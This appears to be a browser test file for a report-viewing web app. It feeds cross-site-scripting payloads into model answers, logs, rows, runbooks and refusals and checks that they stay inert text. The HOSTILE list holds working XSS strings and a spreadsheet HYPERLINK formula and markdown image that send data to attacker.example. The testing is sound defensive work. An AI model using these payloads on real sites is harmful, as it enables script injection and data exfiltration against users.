// Text of an attacker in everything that a model, a log, a database or a runbook may say stays text.

import { ask, BASE, begin, check, expect, expectClean, expectText, open, openEvidence, problem, reached, RUN_TIMEOUT_MS } from "./harness.mjs";

/** Texts that a log line, a row or a runbook may bring into a report. */
const HOSTILE = [
  "<img src=x onerror=\"globalThis.__executed=1\">",
  "</script><script>globalThis.__executed=2</script>",
  "![a](https://attacker.example/?q=SELECT+1) [b](javascript:globalThis.__executed=3)",
  "<iframe srcdoc='<script>parent.__executed=4</script>'></iframe><svg onload=globalThis.__executed=5>",
  "```mermaid\nA->>B: <img src=https://attacker.example/x onerror=alert(1)> $$\\text{<style>*{display:none}</style>}$$\n```",
  '=HYPERLINK("http://attacker.example/?"&A1,"ok")',
].join(" ");
const NAMED = ["text", "excerpt", "sample", "message", "template", "title", "section", "section_path", "missing_info", "caveats", "columns", "rows", "sql", "params", "level", "service", "trace_id", "tags", "query", "detail", "comment"];

/** `value` with every text that a model or a source wrote made hostile. */
function poisoned(value, key = "") {
  if (Array.isArray(value)) return value.map((item) => poisoned(item, key));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poisoned(v, k)]));
  return typeof value === "string" && NAMED.includes(key) ? `${value} ${HOSTILE}` : value;
}

/** Serves what the service says to these paths, poisoned. */
async function poison(page, ...paths) {
  for (const path of paths) {
    await page.route(path, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, json: poisoned(await response.json()) });
    });
  }
}

async function expectHarmless(page, faults) {
  const made = await page.locator("body :is(img, script, iframe, svg[onload], style, a[href^='javascript'], a[href*='attacker'])").count();
  expect(made === 0, `${made} elements were made of text`);
  expect((await page.evaluate(() => globalThis.__executed)) === undefined, "a script ran");
  expectClean(faults);
}

export async function hostileQuestion(browser) {
  const { context, page, faults } = await open(browser);
  await check("markup in a question stays text, on the page and in its history", async () => {
    await ask(page, "<img src=x onerror=alert(1)><script>alert(2)</script> What can you do?");
    expectText(await page.textContent("#run h2"), "<script>");
    await page.waitForSelector("#history li");
    expectText(await page.textContent("#history"), "<script>");
    await expectHarmless(page, faults);
  });
  await context.close();
}

export async function hostileReport(browser) {
  const { context, page, faults } = await open(browser);
  await page.route("**/api/chat", async (route) => {
    const response = await route.fetch({ timeout: RUN_TIMEOUT_MS });
    const text = (await response.text()).replace(/(event: content\ndata: )(.*)/, (_, head, data) => head + JSON.stringify(poisoned(JSON.parse(data))));
    await route.fulfill({ response, body: text });
  });
  await poison(page, "**/evidence", "**/trace");
  await check("markup in a report, its log lines, rows and excerpts stays text", async () => {
    const { kind, text } = await ask(page, "checkout 5xx since 06:05, why?");
    expect(kind === "DIAGNOSIS_REPORT", `got ${kind}`);
    expectText(text, "</script><script>");
    expectText(text, "![a](");
    const kinds = new Set();
    for (let i = 0; i < (await page.locator(".opens-evidence").count()); i += 1) {
      const evidence = await openEvidence(page, i);
      for (const [name, mark] of [["logs", "Patterns"], ["rows", "rows shown"], ["runbook", "Section"]]) {
        if (evidence.includes(mark) && evidence.includes("<iframe srcdoc=")) kinds.add(name);
      }
    }
    expect(kinds.size === 3, `shown as it was written: ${[...kinds]}`);
    expectText(await page.textContent("tbody td"), "<iframe srcdoc=");
    await page.locator(".trace > summary").click();
    await page.waitForSelector(".trace progress");
    await expectHarmless(page, faults);
  });
  await context.close();
}

export async function hostileRunbook(browser) {
  const { context, page, faults } = await open(browser);
  const address = `${BASE}/api/documents/hostile`;
  await check("markup in a runbook's title, tags and text stays text", async () => {
    const added = await page.request.put(address, { data: { title: HOSTILE.slice(0, 190), tags: ["<svg onload=alert(1)>"], text: `# ${HOSTILE}\n\nwombatqueue ${HOSTILE}` } });
    expect(added.ok(), `not stored: ${await added.text()}`);
    await page.click("#to-documents");
    await page.waitForSelector(".entry");
    expectText(await page.textContent(".entries"), "<svg onload=alert(1)>");
    await page.fill("[type=search]", "wombatqueue");
    await page.press("[type=search]", "Enter");
    await page.waitForFunction(() => document.querySelector(".results")?.textContent.includes("wombatqueue <img"));
    await expectHarmless(page, faults);
    await page.goto(`${BASE}/#document=hostile`);
    await page.waitForSelector(".document pre");
    expectText(await page.textContent(".document"), "</script><script>");
    await page.getByRole("button", { name: "Delete" }).click();
    await expectHarmless(page, faults);
    await page.getByRole("button", { name: "Keep it" }).click();
    await page.getByRole("button", { name: "Edit" }).click();
    await page.waitForSelector("textarea.code");
    await expectHarmless(page, faults);
  });
  await check("a source that is no web address is no link", async () => {
    await page.route("**/api/documents/hostile", async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, json: { ...(await response.json()), source: "javascript:globalThis.__executed=6" } });
    });
    await page.goto(`${BASE}/#documents`);
    await page.goto(`${BASE}/#document=hostile`);
    await page.getByRole("button", { name: "Cancel" }).click();
    await page.waitForFunction(() => document.querySelector(".document")?.textContent.includes("javascript:globalThis"));
    await expectHarmless(page, faults);
  });
  await page.request.delete(address);
  await context.close();
}

export async function hostileRefusal(browser) {
  const { context, page, faults } = await open(browser, { refusals: true });
  await check("markup in a refusal stays text", async () => {
    await page.route("**/api/chat", (route) => route.fulfill(problem(400, "INVALID_REQUEST", HOSTILE)));
    await begin(page, "why?");
    expectText((await reached(page, ["REFUSED"])).text, "</script><script>");
    await expectHarmless(page, faults);
  });
  await context.close();
}
